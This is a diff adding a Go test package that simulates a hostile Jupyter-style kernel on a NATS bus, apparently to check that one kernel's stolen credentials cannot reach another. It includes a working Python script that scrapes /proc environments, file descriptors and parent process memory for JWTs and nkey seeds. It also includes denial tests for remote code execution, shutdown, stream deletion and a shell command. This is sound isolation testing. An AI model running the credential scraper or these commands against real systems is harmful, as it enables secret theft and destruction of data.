@@ -1,0 +1,274 @@
+// Package attack is what a hostile kernel does to another kernel with
+// whatever bus credentials it can find: the cell it runs, and the attacks
+// a test makes with a real NATS client using what the cell found. Suites
+// that run real kernels (serve, the failover cluster) share it so that each
+// denial is asserted the same way everywhere.
+package attack
+
+import (
+	"encoding/json"
+	"fmt"
+	"os"
+	"path/filepath"
+	"strings"
+	"sync"
+	"testing"
+	"time"
+
+	"github.com/kernelbus/kernelbus/broker"
+	"github.com/kernelbus/kernelbus/jetstream/access"
+	"github.com/nats-io/nats.go"
+	"github.com/nats-io/nkeys"
+)
+
+// HostileCell is what code in kernel A runs with Python's standard library
+// only: it reads everything about its launcher (the kernel's parent) that
+// the OS lets it read (environment, command line, open files and pipes,
+// and, where it may, the launcher's memory) and every other process's
+// environment and command line, and prints every NATS user JWT and nkey
+// seed it found, as JSON.
+const HostileCell = `
+import os, re, json
+found = {"uid": os.getuid(), "launcher_pid": os.getppid(), "jwts": [], "seeds": [], "sources": {}, "denied": []}
+JWT = re.compile(rb'eyJ[A-Za-z0-9_-]{10,}\.[A-Za-z0-9_-]{20,}\.[A-Za-z0-9_-]{20,}')
+SEED = re.compile(rb'S[UAOCN][A-Z2-7]{56}')
+def scan(src, data):
+    for rx, key in ((JWT, "jwts"), (SEED, "seeds")):
+        for m in rx.findall(data):
+            s = m.decode()
+            if s not in found[key]:
+                found[key].append(s)
+                found["sources"][src] = found["sources"].get(src, 0) + 1
+def read(src, path, limit=1 << 22):
+    try:
+        fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
+        try:
+            scan(src, os.read(fd, limit))
+        finally:
+            os.close(fd)
+    except ProcessLookupError:
+        pass
+    except Exception as e:
+        if len(found["denied"]) < 40:
+            found["denied"].append("%s %s: %s" % (src, path, type(e).__name__))
+ppid = os.getppid()
+scan("own environ", "\0".join(k + "=" + v for k, v in os.environ.items()).encode())
+for pid in os.listdir("/proc"):
+    if pid.isdigit():
+        read("environ", "/proc/%s/environ" % pid)
+        read("cmdline", "/proc/%s/cmdline" % pid)
+read("launcher environ", "/proc/%d/environ" % ppid)
+try:
+    for fd in os.listdir("/proc/%d/fd" % ppid):
+        p = "/proc/%d/fd/%s" % (ppid, fd)
+        found["sources"]["fd " + fd + " " + os.readlink(p)] = 0
+        read("launcher fd " + fd, p)
+except Exception as e:
+    found["denied"].append("launcher fds: %s" % type(e).__name__)
+try:
+    with open("/proc/%d/maps" % ppid) as maps, open("/proc/%d/mem" % ppid, "rb", 0) as mem:
+        for line in maps:
+            rng, perms = line.split()[:2]
+            lo, hi = (int(x, 16) for x in rng.split("-"))
+            if "r" not in perms or hi - lo > 1 << 28:
+                continue
+            try:
+                mem.seek(lo)
+                scan("launcher memory", mem.read(hi - lo))
+            except OSError:
+                pass
+except Exception as e:
+    found["denied"].append("launcher memory: %s" % type(e).__name__)
+print("FOUND" + json.dumps(found))
+`
+
+// Loot is what the hostile cell printed.
+type Loot struct {
+	UID     int            `json:"uid"`
+	PID     int            `json:"launcher_pid"`
+	JWTs    []string       `json:"jwts"`
+	Seeds   []string       `json:"seeds"`
+	Sources map[string]int `json:"sources"`
+	Denied  []string       `json:"denied"`
+}
+
+// Attacker is a connection made with stolen credentials; it records the
+// permission violations the server reports.
+type Attacker struct {
+	Name string
+	NC   *nats.Conn
+	mu   sync.Mutex
+	errs []string
+}
+
+// Violations are the errors the server reported so far.
+func (a *Attacker) Violations() []string {
+	a.mu.Lock()
+	defer a.mu.Unlock()
+	return append([]string{}, a.errs...)
+}
+
+// DeniedTo waits for the server's permission violation naming subject.
+func (a *Attacker) DeniedTo(t testing.TB, what, kind, subject string) {
+	t.Helper()
+	want := strings.ToLower(kind + " to \"" + subject + "\"")
+	deadline := time.Now().Add(10 * time.Second)
+	for time.Now().Before(deadline) {
+		for _, e := range a.Violations() {
+			if strings.Contains(strings.ToLower(e), want) {
+				return
+			}
+		}
+		time.Sleep(20 * time.Millisecond)
+	}
+	t.Errorf("%s with %s: no permission violation for %s; the server reported %v", what, a.Name, want, a.Violations())
+}
+
+// ParseLoot reads the report the hostile cell printed on stdout.
+func ParseLoot(stdout string) (*Loot, error) {
+	i := strings.Index(stdout, "FOUND")
+	if i < 0 {
+		return nil, fmt.Errorf("the hostile cell printed %q", stdout)
+	}
+	var l Loot
+	if err := json.Unmarshal([]byte(strings.TrimSpace(stdout[i+len("FOUND"):])), &l); err != nil {
+		return nil, fmt.Errorf("the hostile cell's report: %w", err)
+	}
+	return &l, nil
+}
+
+// Cred is a user JWT and nkey seed to try.
+type Cred struct{ Name, JWT, Seed string }
+
+// Creds pairs every JWT the cell found with every valid seed (a creds
+// file pairs them; memory may hold them apart), a few of each.
+func (l *Loot) Creds() []Cred {
+	var seeds []string
+	for _, s := range l.Seeds {
+		// Memory holds strings that only look like seeds.
+		if _, err := nkeys.FromSeed([]byte(s)); err == nil {
+			seeds = append(seeds, s)
+		}
+	}
+	var out []Cred
+	for ji, j := range l.JWTs[:min(len(l.JWTs), 6)] {
+		for si, s := range seeds[:min(len(seeds), 6)] {
+			out = append(out, Cred{fmt.Sprintf("found JWT %d + seed %d", ji, si), j, s})
+		}
+	}
+	return out
+}
+
+// Dial connects with cr over TLS trusting caFile; a refusal that is not an
+// authorization failure is an error for the caller to report. connected
+// is false when the server refused the credential (the best outcome).
+func Dial(urls, caFile string, cr Cred) (at *Attacker, connected bool, err error) {
+	at = &Attacker{Name: cr.Name}
+	opts := []nats.Option{
+		nats.UserJWTAndSeed(cr.JWT, cr.Seed),
+		nats.MaxReconnects(0),
+		nats.ErrorHandler(func(_ *nats.Conn, _ *nats.Subscription, err error) {
+			at.mu.Lock()
+			at.errs = append(at.errs, err.Error())
+			at.mu.Unlock()
+		}),
+	}
+	if caFile != "" {
+		opts = append(opts, nats.Secure(), nats.RootCAs(caFile))
+	}
+	nc, err := nats.Connect(urls, opts...)
+	if err != nil {
+		if e := strings.ToLower(err.Error()); strings.Contains(e, "authorization") || strings.Contains(e, "authentication") {
+			return at, false, nil
+		}
+		return at, false, fmt.Errorf("%s: connect failed, but not on authorization: %w", cr.Name, err)
+	}
+	at.NC = nc
+	return at, true, nil
+}
+
+// PwnedFile is the file code published into kernel's input would create.
+func PwnedFile(kernel string) string {
+	return filepath.Join(os.TempDir(), "kb-pwned-"+kernel)
+}
+
+// Run tries, with one stolen credential, everything kernel A's code
+// could do to B and the installation, and asserts each is denied. The
+// caller then checks that B is untouched (its record, its state, that
+// PwnedFile(b) does not exist).
+func Run(t *testing.T, at *Attacker, a, b string) {
+	t.Helper()
+	nc := at.NC
+	// The credential is real: A's own control subject is allowed.
+	own, err := nc.Subscribe(broker.SubjectControl(a), func(*nats.Msg) {})
+	if err == nil {
+		_ = own.Unsubscribe()
+	}
+
+	var gotB sync.Map
+	sub := func(subject string) {
+		t.Helper()
+		if _, err := nc.Subscribe(subject, func(m *nats.Msg) { gotB.Store(m.Subject, true) }); err != nil {
+			t.Errorf("subscribe %s: %v", subject, err)
+		}
+		_ = nc.Flush()
+		at.DeniedTo(t, "subscribe", "subscription", subject)
+	}
+	pub := func(subject string, data []byte) {
+		t.Helper()
+		if err := nc.Publish(subject, data); err != nil {
+			t.Errorf("publish %s: %v", subject, err)
+		}
+		_ = nc.Flush()
+		at.DeniedTo(t, "publish", "publish", subject)
+	}
+
+	// Read B's output, live.
+	sub(broker.SubjectOutAll(b))
+	sub("kb.io.>")
+	sub(">")
+	// Steal B's control requests and its replies.
+	sub(broker.SubjectControl(b))
+	sub(broker.InboxPrefix(b) + ".>")
+	sub("_INBOX.>")
+	// Run code in B.
+	code := fmt.Sprintf("open(%q, 'w').write('pwned')", PwnedFile(b))
+	msg, _ := json.Marshal(map[string]any{"header": map[string]any{"msg_type": "execute_request", "msg_id": "evil"}, "content": map[string]any{"code": code}})
+	pub(broker.SubjectIn(b), msg)
+	// Interrupt or shut B down.
+	pub(broker.SubjectControl(b), []byte(`{"op":"`+broker.OpShutdown+`","request_id":"evil"}`))
+	// Read and change B's record and activity, and sessions.
+	pub("$JS.API.DIRECT.GET.KV_"+broker.BucketKernels+".$KV."+broker.BucketKernels+"."+b, nil)
+	pub("$JS.API.STREAM.MSG.GET.KV_"+broker.BucketKernels, []byte(`{"last_by_subj":"$KV.`+broker.BucketKernels+`.`+b+`"}`))
+	pub("$KV."+broker.BucketKernels+"."+b, []byte(`{"id":"`+b+`","state":"dead"}`))
+	pub("$KV."+broker.BucketActivity+"."+b, []byte(`{}`))
+	pub("$JS.API.DIRECT.GET.KV_"+broker.BucketSessions, []byte(`{"seq":1}`))
+	// Read B's history from KB_IO through a consumer of its own.
+	pub("$JS.API.CONSUMER.CREATE."+broker.StreamIO+".evil."+broker.SubjectOutAll(b), []byte(`{}`))
+	pub("$JS.API.CONSUMER.CREATE."+broker.StreamIO, []byte(`{}`))
+	pub("$JS.API.CONSUMER.INFO."+broker.StreamIO+"."+broker.InputConsumer(b), nil)
+	pub("$JS.API.CONSUMER.MSG.NEXT."+broker.StreamIO+"."+broker.InputConsumer(b), []byte(`{"batch":1}`))
+	// Erase the audit log and the records.
+	pub("$JS.API.STREAM.DELETE."+broker.StreamEvents, nil)
+	pub("$JS.API.STREAM.PURGE."+broker.StreamIO, nil)
+	pub("$JS.API.STREAM.DELETE.KV_"+broker.BucketKernels, nil)
+	pub("$JS.API.STREAM.LIST", nil)
+	// Make a worker run a command, or stop another kernel.
+	pub(broker.SubjectRequest(broker.VerbStart, broker.RMLocal), []byte(`{"argv":["/bin/sh","-c","touch /tmp/evil"]}`))
+	pub(broker.SubjectRequest(broker.VerbStop, broker.RMLocal), []byte(`{"kernel_id":"`+b+`"}`))
+	// Renew B's credentials.
+	pub(access.SubjectRenew(b), nil)
+
+	// Nothing of B's arrived on the denied subscriptions.
+	gotB.Range(func(k, _ any) bool {
+		if s := k.(string); strings.Contains(s, b) {
+			t.Errorf("%s received B's message on %s", at.Name, s)
+		}
+		return true
+	})
+	for _, e := range at.Violations() {
+		if strings.Contains(strings.ToLower(e), "\""+strings.ToLower(broker.SubjectControl(a))+"\"") {
+			t.Errorf("A's own control subject was denied: the credentials are not A's (%s)", e)
+		}
+	}
+}
